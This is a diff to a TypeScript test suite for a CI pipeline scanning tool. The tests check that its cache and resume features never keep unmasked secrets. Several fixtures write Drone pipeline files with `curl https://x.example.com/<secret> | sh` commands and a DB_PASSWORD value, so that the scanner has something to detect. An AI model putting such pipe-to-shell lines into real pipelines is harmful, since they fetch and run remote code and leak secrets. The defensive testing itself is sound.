@@ -7,6 +7,7 @@ import {
   mkdirSync,
   readdirSync,
   readFileSync,
+  renameSync,
   rmSync,
   symlinkSync,
   writeFileSync,
@@ -38,7 +39,7 @@ function scan(cwd: string, ...options: string[]): { status: number | null; stdou
   return droneAudit(['scan', '--format', 'json', 'repositories', ...options], { cwd });
 }
 
-const head = /^[0-9a-f]{64} [0-9a-f]{64} \d{12}$/gm;
+const head = /(?<![0-9a-f]|[0-9a-f] )(?!0{64})[0-9a-f]{64} [0-9a-f]{64} [0-9a-f]{64} \d{12}$/gm;
 
 function filesIn(folder: string): readonly string[] {
   return readdirSync(folder, { withFileTypes: true })
@@ -47,9 +48,9 @@ function filesIn(folder: string): readonly string[] {
 }
 
 /** A text as it lies in a file of a cache. */
-function recordWith(key: string, body: string): string {
-  const digest = createHash('sha256').update(`${key}\n${body}`).digest('hex');
-  return `${key} ${digest} ${`${Buffer.byteLength(body)}`.padStart(12, '0')}\n${body}`;
+function recordWith(key: string, of: string, body: string): string {
+  const digest = createHash('sha256').update(`${key} ${of}\n${body}`).digest('hex');
+  return `${key} ${of} ${digest} ${`${Buffer.byteLength(body)}`.padStart(12, '0')}\n${body}`;
 }
 
 /** How many records are in a cache. */
@@ -130,10 +131,57 @@ describe('--cache', () => {
     expect(all).not.toContain(secret.slice(0, 12));
   });
 
+  it('drops what it replaces', () => {
+    const folder = fleet(3);
+    for (let run = 0; run < 4; run++) {
+      writeFileSync(join(folder, 'repositories/r1/.drone.yml'), pipeline(`golang:1.${run}`));
+      const { stdout } = scan(folder);
+      expect(scan(folder, '--cache', 'kept').stdout).toBe(stdout);
+      expect(recordsIn(join(folder, 'kept'))).toBe(3);
+    }
+    scan(folder, '--cache', 'kept', '--pedantic');
+    expect(recordsIn(join(folder, 'kept'))).toBe(6);
+  });
+
+  it.each([
+    ['a file that comes before', []],
+    ['a file that comes behind', []],
+    ['a file that comes before, where other options were given', ['--pedantic']],
+    ['a file that comes before, of a file that is there no more', []],
+    ['a file that comes before, in what was cut off', []],
+  ])('holds no secret after a run that knows it from %s', (what, options) => {
+    const folder = fleet(1);
+    const odd = `${secret}"\\é`;
+    const [earlier, later] = ['r0', 'r5'].map((name) => join(folder, 'repositories', name));
+    const [mine, other] = what.includes('behind') ? [earlier, later] : [later, earlier];
+    for (const path of [mine, other]) mkdirSync(path ?? '', { recursive: true });
+    writeFileSync(
+      `${mine}/.drone.yml`,
+      `${pipeline('golang')}    commands: [ 'curl https://x.example.com/${odd} | sh' ]\n`,
+    );
+    writeFileSync(`${other}/.drone.yml`, pipeline('golang'));
+    const kept = (): string =>
+      filesIn(join(folder, 'kept'))
+        .map((name) => readFileSync(name, 'utf8'))
+        .join('');
+    scan(folder, '--cache', 'kept', ...options);
+    expect(kept().includes(`example.com/${secret}`)).toBe(true);
+    writeFileSync(`${other}/.drone.yml`, `${pipeline('golang')}    environment: { DB_PASSWORD: '${odd}' }\n`);
+    if (what.includes('no more')) rmSync(`${mine}/.drone.yml`);
+    if (what.includes('cut off'))
+      for (const name of filesIn(join(folder, 'kept'))) writeFileSync(name, `x${readFileSync(name, 'utf8')}`);
+    const { stdout } = scan(folder);
+    expect(stdout.includes(secret)).toBe(false);
+    for (let run = 0; run < 2; run++) {
+      expect(scan(folder, '--cache', 'kept').stdout === stdout).toBe(true);
+      expect(kept().includes(secret)).toBe(false);
+    }
+  });
+
   it('puts into one file what many runs left', () => {
     const folder = fleet(1);
     for (let run = 0; run < 18; run++) {
-      writeFileSync(join(folder, 'repositories/r0/.drone.yml'), pipeline(`golang:1.${run}`));
+      renameSync(join(folder, `repositories/r${run}`), join(folder, `repositories/r${run + 1}`));
       scan(folder, '--cache', 'kept');
     }
     expect(filesIn(join(folder, 'kept')).length).toBe(1);
@@ -147,7 +195,7 @@ describe('--cache', () => {
     const folder = fleet(1);
     const { stdout } = scan(folder, '--cache', 'kept');
     const [name = ''] = filesIn(join(folder, 'kept'));
-    const [, key = '', , body = ''] = /^(\w+) (?:(\w+) )+\d+\n(.*)$/s.exec(readFileSync(name, 'utf8')) ?? [];
+    const [, key = '', of = '', body = ''] = /^(\w+) (\w+) \w+ \d+\n(.*)$/s.exec(readFileSync(name, 'utf8')) ?? [];
     const parts = body.split('\n');
     expect(parts.length).toBe(6);
     const heads = (parts[2] ?? '').replace('"severity":"critical"', '"severity":"low"');
@@ -159,11 +207,11 @@ describe('--cache', () => {
       body.replace('"line":', '"lime":'),
     ]) {
       expect(other).not.toBe(body);
-      writeFileSync(name, recordWith(key, other));
+      writeFileSync(name, recordWith(key, of, other));
       expect(scan(folder, '--cache', 'kept')).toMatchObject({ stdout, status: 1, stderr: '' });
-      for (const each of filesIn(join(folder, 'kept'))) if (each !== name) rmSync(each);
+      for (const each of filesIn(join(folder, 'kept'))) rmSync(each);
     }
-    writeFileSync(name, recordWith(key, body));
+    writeFileSync(name, recordWith(key, of, body));
     scan(folder, '--cache', 'kept');
     expect(filesIn(join(folder, 'kept')).length).toBe(1);
   });
@@ -260,6 +308,21 @@ describe('--cache', () => {
   });
 });
 
+/** Kills a run when it has kept something; returns the folder in which that lies. */
+async function killed(folder: string): Promise<string> {
+  const unfinished = join(folder, 'report.json.unfinished');
+  const [program, ...first] = tool;
+  const child = spawn(program, [...first, 'scan', 'repositories', '--resume', 'report.json', '-o', 'report.json'], {
+    cwd: folder,
+    stdio: 'ignore',
+  });
+  const ended = new Promise((resolve) => child.once('exit', resolve));
+  while (!existsSync(unfinished) || recordsIn(unfinished) < 5) await new Promise((resolve) => setTimeout(resolve, 5));
+  child.kill('SIGKILL');
+  await ended;
+  return unfinished;
+}
+
 describe('--resume', () => {
   it('leaves the report alone behind', () => {
     const folder = fleet(8);
@@ -267,6 +330,17 @@ describe('--resume', () => {
     expect(scan(folder, '--resume', 'report.json', '-o', 'report.json')).toMatchObject({ stdout, status });
     expect(readFileSync(join(folder, 'report.json'), 'utf8')).toBe(stdout);
     expect(readdirSync(folder).sort()).toEqual(['report.json', 'repositories']);
+  });
+
+  it('holds no secret whenever it is killed', async () => {
+    const folder = fleet(400);
+    const path = join(folder, 'repositories/r0/.drone.yml');
+    writeFileSync(path, `${readFileSync(path, 'utf8')}    commands: [ "curl https://x.example.com/${secret} | sh" ]\n`);
+    const unfinished = await killed(folder);
+    expect(recordsIn(unfinished)).toBeGreaterThan(0);
+    const all = filesIn(unfinished).map((name) => readFileSync(name, 'utf8'));
+    expect(all.join('')).toContain('x.example.com/••••');
+    expect(all.join('')).not.toContain(secret);
   });
 
   it('removes nothing that it did not make', () => {
@@ -311,16 +385,7 @@ describe('--resume', () => {
 
   it('takes up a run that was killed', async () => {
     const folder = fleet(400);
-    const unfinished = join(folder, 'report.json.unfinished');
-    const [program, ...first] = tool;
-    const child = spawn(program, [...first, 'scan', 'repositories', '--resume', 'report.json', '-o', 'report.json'], {
-      cwd: folder,
-      stdio: 'ignore',
-    });
-    const ended = new Promise((resolve) => child.once('exit', resolve));
-    while (!existsSync(unfinished) || recordsIn(unfinished) < 5) await new Promise((resolve) => setTimeout(resolve, 5));
-    child.kill('SIGKILL');
-    await ended;
+    const unfinished = await killed(folder);
     expect(recordsIn(unfinished)).toBeGreaterThan(0);
     expect(existsSync(join(folder, 'report.json'))).toBe(false);
     const { stdout } = scan(folder, '--resume', 'report.json', '-o', 'report.json');
